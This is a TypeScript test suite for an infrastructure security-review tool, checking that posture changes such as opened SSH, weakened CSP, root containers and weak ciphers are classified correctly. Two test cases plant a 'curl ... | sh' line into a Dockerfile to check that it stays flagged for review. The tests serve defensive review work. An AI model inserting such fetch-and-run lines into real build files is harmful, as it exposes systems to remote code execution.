// The review's rules, one change at a time: each single change to the prod example (through the
// config where the schema allows it, by mutating the head posture where it refuses) must show up
// with the right category and direction; an unchanged stack gives an empty review.
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { describe, it } from "node:test";
import { posture, type Posture } from "../../components/posture";
import { acknowledge, blocking } from "../../review/accept";
import { diffPostures, uncovered } from "../../review/diff";
import { previewFindings, type PreviewDigest } from "../../review/preview";
import type { Category, Direction, Finding } from "../../review/types";
import { existingConfig } from "../fixtures";
import { mutated, postureWith, prodKey, prodList, prodPosture } from "./helpers";

interface Case {
    name: string;
    /** The base (default: the prod example) and the head. */
    base?: () => Posture;
    head?: () => Posture;
    /** Findings from the engine's preview instead of the postures. */
    findings?: () => Finding[];
    expect: { id: string | RegExp; category: Category; direction: Direction }[];
    /** No finding may be unclassified (uncovered() counts those as covering, so it cannot tell). */
    noneUnclassified?: true;
}

const admin = () => prodKey("admin");
const sites = () => prodList("sites");
const apps = () => prodList("apps");
const app = (p: Posture, name: string) => p.containers.find((c) => c.name === `app-${name}`)!;
const openSsh = () => postureWith({ admin: { ...admin(), sourceIps: [] } });


/** A new gateway toolchain or proxy: the two findings, and the build step judged as `step`. */
const buildArgsChanged = (step: "neutral" | "unclassified"): { id: string; category: "containers" | "host"; direction: "neutral" | "unclassified" }[] => [
    { id: "containers.citadel-gateway.buildFrom.args", category: "containers", direction: "neutral" },
    { id: "containers.citadel-gateway.buildFrom.inputs", category: "containers", direction: "neutral" },
    { id: "host.step:gateway-image", category: "host", direction: step },
];

const CASES: Case[] = [
    {
        name: "IPv6 served (citadel:host.docker.ipv6 false → true): the sites over IPv6 and the route rules to the gateway weaken the exposure; the dual-stack network, the gateway's fixed address and the steps are explained",
        base: () => postureWith({ host: { docker: { ipv6: false } } }),
        head: () => postureWith({}),
        noneUnclassified: true,
        expect: [
            { id: "exposure.ipv6.served=true", category: "exposure", direction: "weakens" },
            { id: "exposure.ufw.rule+:ufw route allow to fd17:c1ad:e1::10 port 443 proto tcp", category: "exposure", direction: "weakens" },
            { id: "exposure.ufw.rule+:ufw route allow to fd17:c1ad:e1::10 port 80 proto tcp", category: "exposure", direction: "weakens" },
            { id: "network-isolation.citadel-public.ipv6=fd17:c1ad:e1::/64", category: "network-isolation", direction: "neutral" },
            { id: "network-isolation.citadel-public.ipv6Address:citadel-gateway", category: "network-isolation", direction: "neutral" },
            { id: "host.step:docker", category: "host", direction: "neutral" },
            { id: "host.step:firewall", category: "host", direction: "neutral" },
        ],
    },
    {
        name: "IPv6 no longer served: the sites over IPv6 and the route rules go (strengthens)",
        head: () => postureWith({ host: { docker: { ipv6: false } } }),
        noneUnclassified: true,
        expect: [
            { id: "exposure.ipv6.served=false", category: "exposure", direction: "strengthens" },
            { id: "exposure.ufw.rule-:ufw route allow to fd17:c1ad:e1::10 port 443 proto tcp", category: "exposure", direction: "strengthens" },
            { id: "host.step:docker", category: "host", direction: "neutral" },
            { id: "host.step:firewall", category: "host", direction: "neutral" },
        ],
    },
    {
        name: "from Docker's IPv6 NAT (a posture before exposure.ipv6: [::] ports, ip6tables and experimental in daemon.json) to Citadel's DNAT: served before and after, so every finding is neutral",
        base: () =>
            mutated(postureWith({ host: { docker: { ipv6: false } } }), (p) => {
                // What a posture of that time held: no exposure.ipv6, the gateway also on "::", the daemon keys,
                // the public network dual-stack without a fixed range.
                delete (p.exposure as Partial<Posture["exposure"]>).ipv6;
                const gw = p.containers.find((c) => c.name === "citadel-gateway")!;
                gw.publishedPorts = gw.publishedPorts.flatMap((x) => [{ ...x, hostIp: "::" }, x]);
                const pub = p.networks.find((n) => n.name === "citadel-public")!;
                Object.assign(pub, { subnet: "172.29.249.0/24", gateway: "172.29.249.1", ipv6Subnet: "fd17:c1ad:e1::/64", ipv6Gateway: "fd17:c1ad:e1::1" });
                p.host.dockerDaemon.ip6tables = true;
                p.host.dockerDaemon.experimental = true;
            }),
        head: () => postureWith({}),
        noneUnclassified: true,
        expect: [
            { id: "exposure.ipv6.gateway", category: "exposure", direction: "neutral" },
            { id: "exposure.published-:citadel-gateway:[::]:443→443/tcp", category: "exposure", direction: "neutral" },
            { id: 'host.docker.ip6tables="(default)"', category: "host", direction: "neutral" },
            { id: 'host.docker.experimental="(default)"', category: "host", direction: "neutral" },
        ],
    },
    {
        name: "a posture before exposure.ipv6 that did not serve IPv6, to one that still does not: the field recorded, neutral",
        base: () => mutated(postureWith({ host: { docker: { ipv6: false } } }), (p) => void delete (p.exposure as Partial<Posture["exposure"]>).ipv6),
        head: () => postureWith({ host: { docker: { ipv6: false } } }),
        noneUnclassified: true,
        expect: [{ id: "exposure.ipv6.recorded", category: "exposure", direction: "neutral" }],
    },
    {
        name: "a posture before exposure.ipv6 that did not serve IPv6, to the default (served): weakens",
        base: () => mutated(postureWith({ host: { docker: { ipv6: false } } }), (p) => void delete (p.exposure as Partial<Posture["exposure"]>).ipv6),
        head: () => postureWith({}),
        noneUnclassified: true,
        expect: [{ id: "exposure.ipv6.served=true", category: "exposure", direction: "weakens" }],
    },
    {
        name: "monitoring turned off",
        head: () => postureWith({ monitoring: { enabled: false } }),
        expect: [{ id: "monitoring.enabled=false", category: "monitoring", direction: "weakens" }],
    },
    {
        name: "failed-login alert threshold raised (10 → 50), disk threshold lowered (85 → 80), drift audit slower",
        head: () => postureWith({ monitoring: { thresholds: { failedSshLogins: { count: 50 }, diskPercent: 80 }, driftInterval: "15m" } }),
        base: () => postureWith({ monitoring: { driftInterval: "5m" } }),
        expect: [
            { id: "monitoring.threshold.failedSshLogins.count=50", category: "monitoring", direction: "weakens" },
            { id: "monitoring.threshold.diskPercent=80", category: "monitoring", direction: "strengthens" },
            { id: "monitoring.drift-interval=900", category: "monitoring", direction: "weakens" },
        ],
    },
    {
        name: "the only alert receiver removed",
        base: () => postureWith({ monitoring: { receivers: [{ name: "ops", url: "https://hooks.example.com/T0K3N" }] } }),
        head: () => postureWith({}),
        expect: [{ id: "monitoring.route=(none)", category: "monitoring", direction: "weakens" }],
    },
    {
        name: "SSH opened to the world (admin sourceIps dropped)",
        head: openSsh,
        expect: [
            { id: "exposure.ssh.sources:anywhere", category: "exposure", direction: "weakens" },
            { id: "exposure.cloud-firewall+:tcp/22:0.0.0.0/0", category: "exposure", direction: "weakens" },
            { id: "exposure.ufw.rule+:ufw limit 22/tcp", category: "exposure", direction: "weakens" },
        ],
    },
    {
        name: "SSH source widened from a /24 to a /16",
        head: () => postureWith({ admin: { ...admin(), sourceIps: ["203.0.0.0/16", "2001:db8:1234::/48"] } }),
        expect: [
            { id: "exposure.ssh.source+:203.0.0.0/16", category: "exposure", direction: "weakens" },
            { id: "exposure.ssh.source-:203.0.113.0/24", category: "exposure", direction: "neutral" },
        ],
    },
    {
        name: "UFW rate limit on an open SSH turned off",
        base: openSsh,
        head: () => postureWith({ admin: { ...admin(), sourceIps: [] }, firewall: { sshRateLimit: false } }),
        expect: [
            { id: "exposure.ssh.rate-limit=false", category: "exposure", direction: "weakens" },
            { id: "exposure.ufw.rule+:ufw allow 22/tcp", category: "exposure", direction: "weakens" },
        ],
    },
    {
        name: "explicitly denied app ports narrowed (8001-8012 → 8001-8005)",
        head: () => postureWith({ firewall: { denyPorts: { from: 8001, to: 8005 } } }),
        expect: [
            { id: "exposure.denied-ports=8001-8005", category: "exposure", direction: "weakens" },
            { id: "exposure.ufw.rule-:ufw deny 8001:8012/tcp", category: "exposure", direction: "weakens" },
        ],
    },
    {
        name: "HSTS max-age lowered (2 years → 1 year)",
        base: () => postureWith({ gateway: { ...prodKey("gateway"), hstsMaxAge: 63072000 } }),
        head: prodPosture,
        expect: [{ id: "tls-headers.www.example.com.hsts.max-age=31536000", category: "tls-headers", direction: "weakens" }],
    },
    {
        name: "HSTS preload dropped (head posture mutated: the schema always sends it)",
        head: () =>
            mutated(prodPosture(), (p) => {
                const s = p.sites[0];
                s.headers["Strict-Transport-Security"] = "max-age=31536000; includeSubDomains";
                s.tls.hsts.preload = false;
            }),
        expect: [{ id: "tls-headers.www.example.com.hsts.preload=false", category: "tls-headers", direction: "weakens" }],
    },
    {
        name: "CSP weakened: 'unsafe-inline' scripts, framing by a partner, no base-uri",
        head: () => postureWith({ sites: [{ ...sites()[0], contentSecurityPolicy: "default-src 'self'; script-src 'self' 'unsafe-inline'; frame-ancestors https://partner.example.net" }, sites()[1]] }),
        expect: [
            { id: "tls-headers.www.example.com.csp.script-src+'unsafe-inline'", category: "tls-headers", direction: "weakens" },
            { id: "tls-headers.www.example.com.csp.frame-ancestors+https://partner.example.net", category: "tls-headers", direction: "weakens" },
            { id: "tls-headers.www.example.com.csp.base-uri-", category: "tls-headers", direction: "weakens" },
            { id: "tls-headers.www.example.com.csp.object-src+'self'", category: "tls-headers", direction: "weakens" },
        ],
    },
    {
        name: "CSP frame-ancestors and default-src removed (posture mutated: the gateway always adds frame-ancestors)",
        head: () => mutated(prodPosture(), (p) => void (p.sites[1].headers["Content-Security-Policy"] = "script-src 'self'")),
        expect: [
            { id: "tls-headers.api.example.com.csp.frame-ancestors-", category: "tls-headers", direction: "weakens" },
            { id: "tls-headers.api.example.com.csp.default-src-", category: "tls-headers", direction: "weakens" },
            { id: "tls-headers.api.example.com.csp.script-src+'self'", category: "tls-headers", direction: "weakens" },
        ],
    },
    {
        name: "rate limit raised tenfold (api 60/1m → 600/1m)",
        head: () => postureWith({ sites: [sites()[0], { ...sites()[1], rateLimit: { events: 600, window: "1m" } }] }),
        expect: [{ id: "rate-limits.api.example.com=600/1m", category: "rate-limits", direction: "weakens" }],
    },
    {
        name: "rate limit window shortened (120/1m → 120/10s)",
        head: () => postureWith({ gateway: { ...prodKey("gateway"), rateLimit: { events: 120, window: "10s" } } }),
        expect: [{ id: "rate-limits.www.example.com=120/10s", category: "rate-limits", direction: "weakens" }],
    },
    {
        name: "data network no longer internal (posture mutated)",
        head: () => mutated(prodPosture(), (p) => void (p.networks.find((n) => n.name === "citadel-data-api")!.internal = false)),
        expect: [{ id: "network-isolation.citadel-data-api.internal=false", category: "network-isolation", direction: "weakens" }],
    },
    {
        name: "web joins the data network (data: true)",
        head: () => postureWith({ apps: [{ ...apps()[0], data: true }, apps()[1]] }),
        expect: [{ id: "network-isolation.citadel-data-web.join:app-web", category: "network-isolation", direction: "weakens" }],
    },
    {
        name: "web joins api's data network (posture mutated): it could reach app-api",
        head: () =>
            mutated(prodPosture(), (p) => {
                app(p, "web").networks.push({ network: "citadel-data-api", aliases: [] });
                p.networks.find((n) => n.name === "citadel-data-api")!.members.push("app-web");
            }),
        expect: [{ id: "network-isolation.citadel-data-api.join:app-web", category: "network-isolation", direction: "weakens" }],
    },
    {
        name: "web pinned by digest: the registry no longer decides what runs",
        head: () => postureWith({ apps: [{ ...apps()[0], image: `${apps()[0].image}@sha256:${"a".repeat(64)}` }, apps()[1]] }),
        expect: [{ id: `containers.app-web.image=ghcr.io/example/web:1.4.2@sha256:${"a".repeat(64)}`, category: "containers", direction: "strengthens" }],
    },
    {
        name: "web's digest pin dropped (base pinned, head by tag only)",
        base: () => postureWith({ apps: [{ ...apps()[0], image: `${apps()[0].image}@sha256:${"a".repeat(64)}` }, apps()[1]] }),
        head: () => postureWith({ apps: [{ ...apps()[0], image: "ghcr.io/example/web:1.4.3" }, apps()[1]] }),
        expect: [{ id: "containers.app-web.image=ghcr.io/example/web:1.4.3", category: "containers", direction: "weakens" }],
    },
    {
        name: "an app runs as root (posture mutated: the schema refuses root)",
        head: () => mutated(prodPosture(), (p) => Object.assign(app(p, "web"), { user: "0:0", uid: 0 })),
        expect: [{ id: "containers.app-web.user=0:0", category: "containers", direction: "weakens" }],
    },
    {
        name: "an app gains a capability (posture mutated)",
        head: () => mutated(prodPosture(), (p) => void app(p, "web").capAdd.push("SYS_ADMIN")),
        expect: [{ id: "containers.app-web.cap-add+:SYS_ADMIN", category: "containers", direction: "weakens" }],
    },
    {
        name: "an app publishes a port (posture mutated)",
        head: () => mutated(prodPosture(), (p) => void app(p, "web").publishedPorts.push({ internal: 3000, external: 8001, protocol: "tcp" })),
        expect: [{ id: "exposure.published+:app-web:8001→3000/tcp", category: "exposure", direction: "weakens" }],
    },
    {
        name: "a secret-looking env value (a password in a URL; posture mutated: the schema refuses it now)",
        head: () => mutated(prodPosture(), (p) => void app(p, "web").env.push("DATABASE_URL=postgres://app:s3cr3t-pw@postgres:5432/app")),
        expect: [{ id: "containers.app-web.env.secret:DATABASE_URL", category: "containers", direction: "weakens" }],
    },
    {
        name: "a range whitelisted from banning (intrusion.ignoreIps)",
        head: () => postureWith({ intrusion: { engine: "crowdsec", ignoreIps: ["203.0.113.0/24", "198.51.100.0/24"] } }),
        expect: [{ id: "intrusion.exempt+:198.51.100.0/24", category: "intrusion", direction: "weakens" }],
    },
    {
        name: "a rotation period lengthened (JWT 90 → 365 days)",
        head: () => postureWith({ secrets: { ...prodKey("secrets"), rotationDays: { jwtSecret: 365 } } }),
        expect: [{ id: "secrets.jwtSecret.rotation=365", category: "secrets", direction: "weakens" }],
    },
    {
        name: "more old encryption keys kept in the keyring (2 → 5)",
        head: () => postureWith({ secrets: { ...prodKey("secrets"), keepPrevious: { apiEncryptionKey: 5 } } }),
        expect: [{ id: "secrets.apiEncryptionKey.keepPrevious=5", category: "secrets", direction: "weakens" }],
    },
    {
        name: "strengthens: a forced rotation of the JWT secret (incident response)",
        head: () => postureWith({ secrets: { ...prodKey("secrets"), rotateNow: { jwtSecret: 1 } } }),
        expect: [{ id: "secrets.jwtSecret.rotateNow=1", category: "secrets", direction: "strengthens" }],
    },
    {
        name: "the server type changed (cx22 → cx32: a resize in place)",
        head: () => postureWith({ hcloud: { ...prodKey("hcloud"), serverType: "cx32" } }),
        expect: [{ id: "server.hcloud.serverType=cx32", category: "server", direction: "weakens" }],
    },
    {
        name: "the location changed (fsn1 → nbg1: a new server)",
        head: () => postureWith({ hcloud: { ...prodKey("hcloud"), location: "nbg1" } }),
        expect: [{ id: "server.hcloud.location=nbg1", category: "server", direction: "weakens" }],
    },
    {
        name: "a weak cipher in sshd (posture mutated: the schema accepts strong ones only)",
        head: () =>
            mutated(prodPosture(), (p) => {
                const i = p.host.sshdEffective.findIndex((l) => l.startsWith("ciphers "));
                p.host.sshdEffective[i] += ",3des-cbc";
            }),
        expect: [{ id: "ssh.ciphers+3des-cbc", category: "ssh", direction: "weakens" }],
    },
    {
        name: "unattended upgrades off, journald kept 30 days",
        head: () => postureWith({ host: { unattendedUpgrades: { enabled: false }, journald: { maxRetentionDays: 30 } } }),
        expect: [
            { id: "host.unattended-upgrades=false", category: "host", direction: "weakens" },
            { id: "host.journald.retention=30", category: "host", direction: "weakens" },
        ],
    },
    {
        name: "the OS baseline loosened: umask 022, core dumps on, usb-storage loadable, no package check",
        head: () => postureWith({ host: { os: { umask: "022", coreDumps: true, packageVerification: false, disabledModules: ["dccp", "sctp", "rds", "tipc", "cramfs", "freevxfs", "hfs", "hfsplus", "jffs2", "firewire-core"] } } }),
        expect: [
            { id: "host.os.umask=022", category: "host", direction: "weakens" },
            { id: "host.os.core-dumps=true", category: "host", direction: "weakens" },
            { id: "host.os.module+usb-storage", category: "host", direction: "weakens" },
            { id: "host.os.packageVerification=false", category: "host", direction: "weakens" },
        ],
    },
    {
        name: "pending security updates left to the nightly run",
        head: () => postureWith({ host: { unattendedUpgrades: { applyAtConverge: false } } }),
        expect: [{ id: "host.unattended-upgrades.apply-at-converge=false", category: "host", direction: "weakens" }],
    },
    {
        name: "a secret rotates (preview mode: the real engine's preview JSON)",
        findings: () => previewFindings(JSON.parse(fs.readFileSync(path.join(__dirname, "fixtures", "preview-replace.json"), "utf8")) as PreviewDigest),
        expect: [
            { id: "preview.replace:random:index/randomBytes:RandomBytes::jwtSecret", category: "secrets", direction: "neutral" },
            { id: "preview.replace:hcloud:index/server:Server::server", category: "server", direction: "weakens" },
            { id: "preview.delete:docker:index/volume:Volume::legacy-data", category: "containers", direction: "weakens" },
        ],
    },
    // Strengthening changes.
    {
        name: "strengthens: a rotation period shortened (JWT 90 → 30 days)",
        head: () => postureWith({ secrets: { ...prodKey("secrets"), rotationDays: { jwtSecret: 30 } } }),
        expect: [{ id: "secrets.jwtSecret.rotation=30", category: "secrets", direction: "strengthens" }],
    },
    {
        name: "strengthens: the whitelisted range removed",
        head: () => postureWith({ intrusion: { engine: "crowdsec", ignoreIps: [] } }),
        expect: [{ id: "intrusion.exempt-:203.0.113.0/24", category: "intrusion", direction: "strengthens" }],
    },
    {
        name: "strengthens: a lower rate limit and a longer ban",
        head: () => postureWith({ gateway: { ...prodKey("gateway"), rateLimit: { events: 30, window: "1m" } }, intrusion: { ...prodKey("intrusion"), banTime: 86400 } }),
        expect: [
            { id: "rate-limits.www.example.com=30/1m", category: "rate-limits", direction: "strengthens" },
            { id: "intrusion.ban-time=86400", category: "intrusion", direction: "strengthens" },
        ],
    },
    {
        name: "strengthens: SSH restricted again (open → admin sources)",
        base: openSsh,
        head: prodPosture,
        expect: [{ id: "exposure.ssh.sources:restricted", category: "exposure", direction: "strengthens" }],
    },
    {
        name: "neutral: the gateway built from another toolchain and module proxy (the build step's lines are explained)",
        head: () => postureWith({ gateway: { ...prodKey("gateway"), buildFrom: { goImage: "registry.example.com/golang:1.26.8-bookworm", goProxy: "https://goproxy.example.com" } } }),
        expect: buildArgsChanged("neutral"),
    },
    {
        name: "a Dockerfile line slipped in beside a new module proxy stays unclassified, even when it names the changed setting",
        head: () =>
            mutated(postureWith({ gateway: { ...prodKey("gateway"), buildFrom: { goProxy: "https://goproxy.example.com" } } }), (p) => {
                const step = p.hostSteps.find((s) => s.name === "gateway-image")!;
                step.script = step.script.replace("FROM ${BASE_IMAGE}\n", "FROM ${BASE_IMAGE}\nRUN curl -fsS https://example.com/x | sh # GOPROXY https://goproxy.example.com\n");
                const df = step.sources!.find((f) => f.name === "images/caddy/Dockerfile")!;
                df.sha256 = "e".repeat(64);
            }),
        expect: buildArgsChanged("unclassified"),
    },
    {
        name: "an images/caddy edit: the rebuild is named, and the Dockerfile lines it changes stay for the reviewer (unclassified)",
        head: () =>
            mutated(prodPosture(), (p) => {
                const step = p.hostSteps.find((s) => s.name === "gateway-image")!;
                const gw = p.containers.find((x) => x.role === "gateway")!;
                const next = "f".repeat(64);
                step.script = step.script.replaceAll(gw.buildFrom!.inputsSha256, next).replace("FROM ${BASE_IMAGE}\n", "FROM ${BASE_IMAGE}\nRUN curl -fsS https://example.com/x.sh | sh\n");
                gw.buildFrom!.inputsSha256 = next;
                gw.buildFrom!.filesSha256 = "d".repeat(64);
                step.sources!.find((f) => f.name === "images/caddy/Dockerfile")!.sha256 = "e".repeat(64);
            }),
        expect: [
            { id: "containers.citadel-gateway.buildFrom.files", category: "containers", direction: "neutral" },
            { id: "containers.citadel-gateway.buildFrom.inputs", category: "containers", direction: "neutral" },
            { id: "host.step:gateway-image", category: "host", direction: "unclassified" },
        ],
    },
    {
        name: "a host script changed by a template edit (unclassified, with its diff)",
        head: () => mutated(prodPosture(), (p) => void (p.hostSteps.find((s) => s.name === "firewall")!.script += "\nufw allow 9999/tcp\n")),
        expect: [{ id: "host.step:firewall", category: "host", direction: "unclassified" }],
    },
    {
        name: "a template edit slipped in beside a change it does not belong to stays unclassified",
        head: () => mutated(openSsh(), (p) => void (p.hostSteps.find((s) => s.name === "firewall")!.script += "\nufw allow 9999/tcp\n")),
        expect: [
            { id: "exposure.ssh.sources:anywhere", category: "exposure", direction: "weakens" },
            { id: "host.step:firewall", category: "host", direction: "unclassified" },
        ],
    },
    {
        name: "moving to the existing target drops the cloud firewall",
        head: () => posture(existingConfig()),
        expect: [
            { id: "server.target=existing", category: "server", direction: "weakens" },
            { id: "exposure.cloud-firewall:none", category: "exposure", direction: "weakens" },
        ],
    },
    {
        name: "a new app behind a new site: a new endpoint; its Caddyfile block follows from it",
        head: () => postureWith({ apps: [...apps(), { name: "admin", image: "ghcr.io/example/admin:1.0.0", port: 4000 }], sites: [...sites(), { host: "admin.example.com", app: "admin" }] }),
        expect: [
            { id: "tls-headers.admin.example.com+", category: "tls-headers", direction: "weakens" },
            { id: "containers.app-admin+", category: "containers", direction: "neutral" },
            { id: "host.step:gateway-config", category: "host", direction: "neutral" },
        ],
    },
];

describe("review: one change at a time", () => {
    it(`has at least 15 cases, two of them strengthening (${CASES.length})`, () => {
        assert.ok(CASES.length >= 15);
        assert.ok(CASES.filter((c) => c.expect.some((e) => e.direction === "strengthens")).length >= 2);
    });

    for (const c of CASES) {
        it(c.name, () => {
            const base = (c.base ?? prodPosture)();
            const head = c.head?.();
            const findings = c.findings ? c.findings() : diffPostures(base, head!);
            for (const e of c.expect) {
                const hit = findings.find((f) => (typeof e.id === "string" ? f.id === e.id : e.id.test(f.id)));
                assert.ok(hit, `no finding ${String(e.id)}; got:\n${findings.map((f) => `  ${f.direction} ${f.id}`).join("\n")}`);
                assert.equal(hit.category, e.category, hit.id);
                assert.equal(hit.direction, e.direction, `${hit.id}: ${hit.why}`);
                assert.ok(hit.what && hit.why, `${hit.id} explains itself`);
            }
            if (head) assert.deepEqual(uncovered(base, head, findings), [], "every differing leaf is covered");
            if (c.noneUnclassified) assert.deepEqual(findings.filter((f) => f.direction === "unclassified").map((f) => `${f.id}: ${f.why}`), [], "no finding is unclassified");
        });
    }

    it("an unchanged stack gives an empty review that passes", () => {
        const findings = diffPostures(prodPosture(), prodPosture());
        assert.deepEqual(findings, []);
        assert.deepEqual(blocking(findings), []);
    });

    it("never shows a secret-looking env value", () => {
        const head = mutated(prodPosture(), (p) => void app(p, "web").env.push("DATABASE_URL=postgres://app:s3cr3t-pw@postgres:5432/app"));
        const text = JSON.stringify(diffPostures(prodPosture(), head));
        assert.ok(!text.includes("s3cr3t-pw"), "the password is redacted");
        assert.match(text, /DATABASE_URL=<redacted, \d+ characters>/);
    });

    it("a host step whose changed lines carry the changed values is grouped as neutral", () => {
        const f = diffPostures(prodPosture(), openSsh()).find((x) => x.id === "host.step:firewall");
        assert.equal(f?.direction, "neutral", f?.why);
        assert.match(f!.diff!, /^\+ {4}'limit 22\/tcp'$/m);
    });

    it("acknowledging every weakening makes the review pass; a prefix must match the direction", () => {
        const findings = diffPostures(prodPosture(), openSsh());
        const weak = findings.filter((f) => f.direction === "weakens");
        assert.ok(weak.length > 0);
        assert.deepEqual(acknowledge(findings, [{ id: "strengthens:exposure.ssh.rate-limit=true", reason: "x" }]), ["strengthens:exposure.ssh.rate-limit=true"]);
        const unused = acknowledge(findings, [...weak.map((f) => ({ id: `weakens:${f.id}`, reason: "maintenance window" })), { id: "weakens:no.such.finding", reason: "stale" }]);
        assert.deepEqual(unused, ["weakens:no.such.finding"]);
        assert.deepEqual(blocking(findings), []);
    });

    it("--strict: an unclassified change fails until acknowledged as unclassified:<id>", () => {
        const head = mutated(prodPosture(), (p) => void (p.hostSteps.find((s) => s.name === "firewall")!.script += "\nufw allow 9999/tcp\n"));
        const findings = diffPostures(prodPosture(), head);
        assert.deepEqual(blocking(findings), []);
        assert.deepEqual(blocking(findings, true).map((f) => f.id), ["host.step:firewall"]);
        assert.deepEqual(acknowledge(findings, [{ id: "weakens:host.step:firewall", reason: "x" }], true), ["weakens:host.step:firewall"]);
        acknowledge(findings, [{ id: "unclassified:host.step:firewall", reason: "reviewed the diff" }], true);
        assert.deepEqual(blocking(findings, true), []);
    });

    it("refuses to compare postures of different shapes", () => {
        assert.throws(() => diffPostures(prodPosture(), { ...prodPosture(), version: 2 } as unknown as Posture), /different shapes/);
    });
});
